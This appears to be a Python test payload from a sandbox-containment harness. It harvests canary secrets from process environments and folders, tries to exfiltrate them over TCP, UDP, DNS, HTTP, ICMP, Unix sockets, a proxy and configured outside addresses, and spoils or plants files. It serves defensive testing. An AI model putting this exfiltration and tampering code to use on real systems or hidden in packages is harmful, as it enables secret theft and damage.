"""What foreign code tries wherever it gets to run; the same text is the control outside.

Standard library only, any Python from 3.9. It is laid into hostile repositories and packages as
it stands, with `LABEL` and `AIM` written above it. It steals what it finds, sends it out by every
way there is, writes wherever it should not, and leaves what it achieved in
`/tmp/attacked/<label>-<process>.json`, which only ever is evidence: the listeners and the hashes
outside are what counts.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import socket
import struct
import sys
import urllib.request

if "AIM" not in globals():
    LABEL, AIM = "none", {}

SECRET = re.compile(rb"cnry[0-9a-f]{32}")
MOST_READ = 1 << 20


def attempt(done, name, work):
    try:
        work()
    except Exception:
        return
    done.append(name)


def readable(path):
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_CLOEXEC)
    try:
        return os.read(descriptor, MOST_READ)
    finally:
        os.close(descriptor)


def places():
    for number in os.listdir("/proc"):
        if number.isdigit():
            for part in ("environ", "cmdline"):
                yield f"/proc/{number}/{part}"
    for root in AIM["folders"]:
        for folder, folders, files in os.walk(root):
            folders[:] = folders[:50]
            for name in files[:50]:
                yield os.path.join(folder, name)


def stolen():
    secrets = set(SECRET.findall(repr(dict(os.environ)).encode()))
    for path in places():
        with contextlib.suppress(OSError):
            secrets |= set(SECRET.findall(readable(path)))
    return sorted(secret.decode() for secret in secrets)


def dns_question(words):
    name = b"".join(bytes([len(part)]) + part for part in (words[:60], b"canary", b"invalid"))
    return struct.pack("!6H", 4711, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!2H", 16, 1)


def send(family, kind, address, words):
    with socket.socket(family, kind) as client:
        client.settimeout(2)
        client.connect(address)
        # Where no process listens, the kernel may give us the very port that we aim at.
        if family != socket.AF_UNIX and client.getsockname() == client.getpeername():
            raise OSError("nobody is there but we")
        client.sendall(words)
        # What is sent into an empty network does not come back.
        if address != AIM["unix_datagram"] and not client.recv(100):
            raise OSError("nobody is there")


def ping(family, protocol, kind, address, words):
    head = struct.pack("!BBHHH", kind, 0, 0, AIM["echo"], 1)
    body = words + b"\0" * (len(words) % 2)
    total = sum(struct.unpack(f"!{(len(head) + len(body)) // 2}H", head + body))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    packet = head[:2] + struct.pack("!H", ~total & 0xFFFF) + head[4:] + body
    with socket.socket(family, socket.SOCK_RAW, protocol) as client:
        client.sendto(packet, address)


def pushed(words):
    """Push over HTTP, also by the proxy that the environment or the sandbox may offer."""
    url = f"http://127.0.0.1:{AIM['http']}/push"
    request = urllib.request.Request(url, data=words, method="POST")
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=2).close()


def relayed(words):
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(2)
        client.connect("/sandbox/proxy.sock")
        client.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % AIM["tcp"])
        if b" 200 " not in client.recv(100):
            raise OSError("refused")
        client.sendall(words)
        if not client.recv(100):
            raise OSError("nobody is there")


def ways_out(words):
    inet, inet6, unix = socket.AF_INET, socket.AF_INET6, socket.AF_UNIX
    stream, datagram = socket.SOCK_STREAM, socket.SOCK_DGRAM
    yield "tcp", lambda: send(inet, stream, ("127.0.0.1", AIM["tcp"]), words)
    yield "tcp6", lambda: send(inet6, stream, ("::1", AIM["tcp6"]), words)
    yield "udp", lambda: send(inet, datagram, ("127.0.0.1", AIM["udp"]), words)
    yield "udp6", lambda: send(inet6, datagram, ("::1", AIM["udp6"]), words)
    yield "dns", lambda: send(inet, datagram, ("127.0.0.1", AIM["dns"]), dns_question(words))
    yield "http", lambda: pushed(words)
    yield "unix", lambda: send(unix, stream, AIM["unix"], words)
    yield "unix datagram", lambda: send(unix, datagram, AIM["unix_datagram"], words)
    yield "abstract", lambda: send(unix, stream, "\0" + AIM["abstract"], words)
    yield "icmp", lambda: ping(inet, 1, 8, ("127.0.0.1", 0), words)
    yield "icmp6", lambda: ping(inet6, 58, 128, ("::1", 0), words)
    yield "relayed", lambda: relayed(words)
    for address in AIM["beyond"]:
        yield "beyond " + address, lambda to=address: send(inet, stream, (to, 80), words)
    for name in AIM["names"]:
        yield "name " + name, lambda of=name: socket.getaddrinfo(of, 80)
    for path in AIM["engines"]:
        yield "engine " + path, lambda at=path: send(unix, stream, at, words)


def spoil(path):
    with contextlib.suppress(OSError):
        os.chmod(path, 0o666)
    with open(path, "ab") as file:
        file.write(b"spoiled")


def plant(folder):
    path = os.path.join(folder, "planted-by-" + LABEL.replace(" ", "-"))
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666))


def open_to_write(path):
    """Open, and no more: should a wall be missing, the machine is not to suffer."""
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK))


def damage():
    for path in AIM["spoil"]:
        yield "spoil " + path, lambda at=path: spoil(at)
    for folder in AIM["plant"]:
        yield "plant in " + folder, lambda at=folder: plant(at)
    for path in AIM["open"]:
        yield "open " + path, lambda at=path: open_to_write(at)


def main():
    done = []
    loot = stolen()
    words = ("{} {}".format(LABEL, " ".join(loot))).encode()
    for name, work in (*ways_out(words), *damage()):
        attempt(done, name, work)
    evidence = {
        "label": LABEL,
        "loot": loot,
        "done": done,
        "user": os.getuid(),
        "environ": dict(os.environ),
        "python": sys.executable,
        "process": os.getpid(),
    }
    place = f"/tmp/attacked/{LABEL.replace(' ', '-')}-{os.getpid()}.json"
    with contextlib.suppress(OSError):
        os.makedirs("/tmp/attacked", exist_ok=True)
        with open(place, "w") as file:
            json.dump(evidence, file)
    # Not where a tool may expect an answer of its own.
    print("attacked by", LABEL, file=sys.stderr, flush=True)


if AIM:
    main()
